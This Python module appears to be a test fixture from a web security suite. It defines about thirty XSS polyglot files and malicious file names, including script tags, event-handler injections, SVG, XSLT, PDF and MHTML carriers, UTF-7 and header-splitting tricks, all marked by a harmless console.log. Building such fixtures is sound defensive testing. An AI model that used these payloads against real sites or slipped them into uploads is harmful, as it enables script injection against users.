"""Files, names and texts that run as a script where somebody lets them.

Each says `pwned` to the console when it runs, which neither a sandbox nor a policy of content forbids to a
script that runs at all.

Belongs here: what is sent. Not here: where it is looked at (xss.py).
"""

from collections.abc import Sequence
from dataclasses import dataclass

MARK = "pwned"
RUN = f"console.log(/{MARK}/)"
"""Without quotes, which would end what it stands in."""
SCRIPT = f"<script>{RUN}</script>"
IMAGE = f"<img src=x onerror={RUN}>"
_GIF = "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"
_PNG = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
_XHTML = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{SCRIPT}</body></html>'
_XSLT = (
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?>'
    '<!DOCTYPE d [<!ATTLIST x:stylesheet id ID #REQUIRED>]><d><x:stylesheet id="s" version="1.0" '
    'xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">'
    f"<html><body>{SCRIPT}</body></html></x:template></x:stylesheet></d>"
)
_PDF = (
    f"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS({RUN})>>/Pages 2 0 R>>endobj\n"
    "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R"
    "/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n"
)
_MHTML = (
    "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b; type=text/html\r\n\r\n--b\r\n"
    f"Content-Type: text/html\r\nContent-Location: http://x/\r\n\r\n{SCRIPT}\r\n--b--\r\n"
)
_EVERYTHING = (
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    f"</scRipt/--!>\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e"
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Polyglot:
    """One file."""

    declared: str
    content: str
    """In Latin-1."""
    name: str
    """Of the file, and of a tag, and what is asked for where nothing is."""


POLYGLOTS: Sequence[Polyglot] = tuple(
    Polyglot(declared=declared, content=content, name=name)
    for declared, content, name in (
        ("text/html", f"<!doctype html>{SCRIPT}", f"{IMAGE}.html"),
        ("text/html; charset=utf-8", IMAGE, f'"><svg onload={RUN}>.html'),
        ("TEXT/HTML", f"<body onload={RUN}>", f"'-{RUN}-'.html"),
        ("text/html;charset=utf-7", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", "+ADw-script+AD4-.html"),
        ("image/svg+xml", _SVG, f"</title>{SCRIPT}.svg"),
        ("image/svg+xml; charset=utf-8", _SVG, f"a\r\nContent-Type: text/html\r\n\r\n{SCRIPT}.svg"),
        ("application/xhtml+xml", _XHTML, f"javascript:{RUN}"),
        ("text/xml", _XHTML, f"<a href=javascript:{RUN}>x</a>.xml"),
        ("application/xml", _XSLT, f"<![CDATA[{SCRIPT}]]>.xml"),
        ("text/xsl", _XSLT, f"{{{{constructor.constructor('{RUN}')()}}}}.xsl"),
        ("application/rss+xml", _XHTML, f"${{{RUN}}}.rss"),
        ("application/pdf", _PDF, f"<iframe srcdoc='{SCRIPT}'>.pdf"),
        ("application/pdf", f"%PDF-1.7\n<html>{SCRIPT}", f"<object data=javascript:{RUN}>.pdf"),
        ("image/gif", _GIF + SCRIPT, f"<math><mi xlink:href=javascript:{RUN}>.gif"),
        ("image/gif", f"GIF89a/*{SCRIPT}*/=1;{RUN}", f"<body onload={RUN}>.gif"),
        ("image/png", _PNG + SCRIPT, f"<details open ontoggle={RUN}>.png"),
        ("image/png", f"<!doctype html>{SCRIPT}", f"<video><source onerror={RUN}>.png"),
        ("image/jpeg", "\xff\xd8\xff\xe0" + SCRIPT, f"<input autofocus onfocus={RUN}>.jpg"),
        ("image/bmp", f"BM/*{SCRIPT}*/", f"<style>@import'x'</style>{SCRIPT}.bmp"),
        ("image/webp", f"RIFF/*{SCRIPT}*/WEBP", f"<base href=//x/>{SCRIPT}.webp"),
        ("video/mp4", f"<html>{SCRIPT}", f"<template>{SCRIPT}</template>{IMAGE}.mp4"),
        ("text/plain", f"<!doctype html>{SCRIPT}", f"<noscript><p title='</noscript>{IMAGE}'>.txt"),
        ("", f"<!doctype html>{SCRIPT}", f"&lt;script&gt;{RUN}&lt;/script&gt;"),
        ("application/octet-stream", f"<html>{SCRIPT}", f"\u202e{IMAGE}"),
        ("application/javascript", RUN, "sw.js"),
        ("text/css", f"*{{background:url(javascript:{RUN})}}", f"</style>{SCRIPT}.css"),
        ("message/rfc822", _MHTML, f"x.mhtml{IMAGE}"),
        (
            "multipart/x-mixed-replace; boundary=b",
            f"--b\r\nContent-Type: text/html\r\n\r\n{SCRIPT}\r\n--b--",
            "m",
        ),
        ("text/html,image/png", f"<html>{SCRIPT}", f'x" onmouseover={RUN} autofocus onfocus={RUN} x="'),
        ("image/svg+xml", _EVERYTHING + _SVG, _EVERYTHING[:160]),
    )
)
